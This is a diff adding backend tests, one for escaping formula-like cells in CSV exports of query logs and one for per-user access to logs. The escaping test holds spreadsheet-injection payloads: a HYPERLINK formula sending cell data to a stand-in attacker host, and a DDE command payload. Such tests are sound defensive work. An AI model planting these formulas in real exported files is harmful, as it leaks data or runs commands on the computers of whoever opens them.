@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync'
 import { beforeAll, expect, it } from 'vitest'
 import { forEachStorage, publishArticles } from '../../testing/test-backend'
 
@@ -85,6 +86,57 @@ forEachStorage('query logs, feedback, comments and saved queries', ({ server }) 
     expect(dataset.headers.get('content-type')).toMatch(/^text\/csv/)
     expect(String(dataset.body).split('\n')[0]).toBe('question,answer,sources,feedback,comments')
     expect(String(dataset.body)).toContain('Bicycle lights')
+  })
+
+  it('escapes cells a spreadsheet would run as a formula, in both CSV exports', async () => {
+    const payloads = ['=HYPERLINK("http://attacker.test/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)*cmd']
+    for (const [index, payload] of payloads.entries()) {
+      const asked = await server().call('/ask_qa', { method: 'POST', body: { command: `${payload} bicycle lights` } })
+      expect(asked.status).toBe(200)
+      await server().call('/query_logs/comment', { method: 'PUT', body: { log_id: asked.body.log_id, comment: `${payloads[(index + 1) % payloads.length]} note` } })
+    }
+    // Requests trim leading tabs and line breaks from questions; an answer or an older row may still start with one.
+    await server().backend.db.query(`INSERT INTO query_logs (command, answer, status, comment) VALUES ($1, $2, 'answered', $3)`, ['\t=1+1 tab', '\r=2+2 return', '-3 minus'])
+    for (const response of [await server().call('/query_logs/query_log_csv'), await server().call('/admin/query_log_ds_csv')]) {
+      const cells = (parse(String(response.body)) as string[][]).slice(1).flat()
+      for (const payload of payloads) {
+        expect(cells).toContain(`'${payload} bicycle lights`)
+        expect(cells).toContain(`'${payload} note`)
+      }
+      expect(cells).toEqual(expect.arrayContaining(["'\t=1+1 tab", "'\r=2+2 return", "'-3 minus"]))
+      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
+    }
+  })
+
+  it('keeps a plain user to their own logs: another user can neither read, give feedback on nor save them; an editor of the organisation can read them', async () => {
+    const owner = await server().createUser('user')
+    const stranger = await server().createUser('user')
+    const editor = await server().createUser('editor')
+    const asked = await server().call('/ask_qa', { method: 'POST', body: { command: 'Do bicycle lights need to flash?' }, as: owner })
+    const ownLog = asked.body.log_id as number
+    await server().call('/query_logs/comment', { method: 'PUT', body: { log_id: ownLog, comment: 'Internal: answer is vague' } })
+    await server().call('/query_logs/comments', { method: 'POST', body: { log_id: ownLog, comment: 'Internal: add the law article' } })
+    const feedbackBefore = (await server().call(`/query_logs/query_log?log_id=${ownLog}`)).body.result[0].feedback
+
+    const missing = { success: false, error: 'Not Found', message: `No query log ${ownLog}` }
+    expect(await server().call(`/query_logs/query_log?log_id=${ownLog}`, { as: stranger })).toMatchObject({ status: 404, body: missing })
+    expect(await server().call('/ask_qa_feedback', { method: 'PUT', body: { log_id: ownLog, feedback: 'dislike' }, as: stranger })).toMatchObject({ status: 404, body: missing })
+    expect((await server().call('/query_logs/add_query_favorite', { method: 'POST', body: { log_id: ownLog, comment: 'mine now' }, as: stranger })).status).toBe(404)
+    expect((await server().call(`/answer?log_id=${ownLog}`, { as: stranger })).status).toBe(404)
+    expect((await server().call('/ask_qa_answer', { method: 'POST', body: { task_id: asked.body.task_id }, as: stranger })).status).toBe(404)
+    expect((await server().call(`/query_logs/query_log?log_id=${logId}`, { as: owner })).status).toBe(404)
+    expect((await server().call(`/query_logs/query_log?log_id=${ownLog}`)).body.result[0].feedback).toBe(feedbackBefore)
+
+    // The owner reads and rates their own question, without the editors' comments on it.
+    const own = await server().call(`/query_logs/query_log?log_id=${ownLog}`, { as: owner })
+    expect(own.body.result[0]).toMatchObject({ id: ownLog, command: 'Do bicycle lights need to flash?', comment: null, comment_list: [], has_comment: false })
+    expect((await server().call('/ask_qa_feedback', { method: 'PUT', body: { log_id: ownLog, feedback: 'like' }, as: owner })).body.result).toMatchObject({ feedback: 'like', comment: null })
+    expect((await server().call('/query_logs/add_query_favorite', { method: 'POST', body: { log_id: ownLog, comment: 'keep' }, as: owner })).status).toBe(200)
+
+    // An editor of the organisation reads it, comments included, and can rate it.
+    const read = await server().call(`/query_logs/query_log?log_id=${ownLog}`, { as: editor })
+    expect(read.body.result[0]).toMatchObject({ id: ownLog, comment: 'Internal: answer is vague', comment_list: [expect.objectContaining({ comment: 'Internal: add the law article' })] })
+    expect((await server().call('/ask_qa_feedback', { method: 'PUT', body: { log_id: ownLog, feedback: 'dislike' }, as: editor })).status).toBe(200)
   })
 
   it("keeps each organisation's logs to itself; administrators see all", async () => {
